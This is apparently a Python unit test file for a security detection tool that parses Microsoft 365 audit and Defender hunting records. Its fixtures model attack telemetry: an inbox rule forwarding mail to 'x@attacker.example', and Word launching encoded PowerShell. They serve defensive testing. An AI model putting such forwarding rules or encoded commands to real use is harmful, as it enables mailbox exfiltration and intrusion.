"""Microsoft 365: records of the Management Activity API and of OfficeActivity, and Defender's hunting records."""

from typing import Final

import pytest

from tests.unit.cloud_events import Fields, event_of, names, services
from watchfloor.detect.view import EventView
from watchfloor.normalise.event import Event, FieldValue, LogSource

USER: Final = "k.lang@nordwind.example"


def record(**changes: FieldValue) -> Fields:
    return {
        "CreationTime": "2026-03-02T08:14:27",
        "Id": "aaaaaaaa-0000-4000-8000-000000000001",
        "Operation": "New-InboxRule",
        "OrganizationId": "4f1d9c52-6b7e-4c1a-9a70-2f0e5d8b3c11",
        "RecordType": 1,
        "ResultStatus": "True",
        "Workload": "Exchange",
        "UserId": USER,
        "ClientIP": "[2001:db8::7]:52418",
        "ObjectId": "mailbox\\rule",
        "Parameters": [{"Name": "Name", "Value": "."}, {"Name": "ForwardTo", "Value": "smtp:x@attacker.example"}],
        **changes,
    }


def value(event: Event, name: str) -> tuple[str, ...]:
    return EventView(event.fields).texts(name)


def test_a_record_has_its_names_its_log_sources_and_its_entities() -> None:
    event = event_of(record())
    assert (event.source, services(event)) == ("m365", ["audit", "exchange"])
    assert names(event, "user") == [USER]
    assert names(event, "ip") == ["2001:db8::7"]
    assert names(event, "account") == ["4f1d9c52-6b7e-4c1a-9a70-2f0e5d8b3c11"]
    assert event.time_quality == "parsed"
    assert (value(event, "eventSource"), value(event, "eventName")) == (("Exchange",), ("New-InboxRule",))
    assert value(event, "CmdletParameters.ForwardTo") == ("smtp:x@attacker.example",)
    assert any("ForwardTo" in text for text in value(event, "Parameters"))
    assert event.summary == f"{USER}: New-InboxRule in Exchange, mailbox\\rule from [2001:db8::7]:52418"


def test_a_row_of_a_table_opens_its_json_columns() -> None:
    row = record(
        Workload=None,
        OfficeWorkload="Exchange",
        TimeGenerated="2026-03-02T08:14:27Z",
        Parameters='[{"Name":"ForwardTo","Value":"a@b.example"}]',
    )
    event = event_of(row)
    assert event.source == "m365"
    assert value(event, "CmdletParameters.ForwardTo") == ("a@b.example",)


@pytest.mark.parametrize(
    ("result", "status"),
    [("Success", "success"), ("Succeeded", "success"), ("True", "success"), (None, "success"), ("Failed", "failure")],
)
def test_the_result_is_success_or_failure(result: str | None, status: str) -> None:
    assert value(event_of(record(ResultStatus=result)), "status") == (status,)


def test_an_alert_is_named_by_what_it_says_and_keeps_its_own_status() -> None:
    event = event_of(
        record(
            Workload="SecurityComplianceCenter",
            Operation="AlertTriggered",
            Name="Activity from anonymous IP addresses",
            Status="Active",
            UserId="SecurityComplianceAlerts",
        )
    )
    assert services(event) == ["audit", "threat_management", "threat_detection"]
    assert value(event, "eventName") == ("Activity from anonymous IP addresses",)
    assert (value(event, "Status"), value(event, "status")) == (("Active",), ("success",))
    assert names(event, "user") == []


def test_extended_properties_stand_on_the_top_level_without_hiding_what_is_there() -> None:
    event = event_of(
        record(
            Workload="AzureActiveDirectory",
            Operation="UserLoggedIn",
            ExtendedProperties=[{"Name": "RequestType", "Value": "Cmsi:Cmsi"}, {"Name": "Workload", "Value": "x"}],
        )
    )
    assert value(event, "RequestType") == ("Cmsi:Cmsi",)
    assert value(event, "Workload") == ("AzureActiveDirectory",)


def hunting(**changes: FieldValue) -> Fields:
    return {
        "Timestamp": "2026-03-02T08:14:27.3812345Z",
        "DeviceId": "d1",
        "DeviceName": "ws-17.nordwind.example",
        "ActionType": "ProcessCreated",
        "FileName": "powershell.exe",
        "FolderPath": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "ProcessCommandLine": "powershell -enc AAAA",
        "AccountDomain": "nordwind",
        "AccountName": "k.lang",
        "SHA256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "InitiatingProcessFolderPath": "c:\\program files\\office",
        "InitiatingProcessFileName": "winword.exe",
        "InitiatingProcessCommandLine": "winword.exe /n",
        "ReportId": 4711,
        **changes,
    }


def test_a_hunting_record_of_a_process_is_a_process_creation() -> None:
    event = event_of(hunting())
    assert LogSource("windows", "process_creation") in event.logsources
    assert value(event, "Image") == ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",)
    assert value(event, "ParentImage") == ("c:\\program files\\office\\winword.exe",)
    assert value(event, "CommandLine") == ("powershell -enc AAAA",)
    assert value(event, "User") == ("nordwind\\k.lang",)
    assert names(event, "host") == ["ws-17.nordwind.example", "ws-17"]
    assert names(event, "user") == ["nordwind\\k.lang"]


def test_a_streamed_hunting_record_is_unwrapped() -> None:
    event = event_of({"category": "AdvancedHunting-DeviceProcessEvents", "tenantId": "t", "properties": hunting()})
    assert event.key == event_of(hunting()).key


@pytest.mark.parametrize(
    ("action", "category", "field"),
    [
        ("ConnectionSuccess", "network_connection", "DestinationIp"),
        ("RegistryValueSet", "registry_set", "TargetObject"),
        ("ImageLoaded", "image_load", "ImageLoaded"),
        ("FileCreated", "file_event", "TargetFilename"),
    ],
)
def test_other_records_get_sysmons_names(action: str, category: str, field: str) -> None:
    event = event_of(
        hunting(ActionType=action, RemoteIP="203.0.113.77", RegistryKey="HKLM\\Run", RegistryValueName="x")
    )
    assert LogSource("windows", category) in event.logsources
    assert value(event, field)
    assert value(event, "Image") == ("c:\\program files\\office\\winword.exe",)


def test_a_process_on_linux_is_one_on_linux() -> None:
    event = event_of(hunting(InitiatingProcessFolderPath="/usr/bin/bash", FolderPath="/opt/x"))
    assert LogSource("linux", "process_creation") in event.logsources
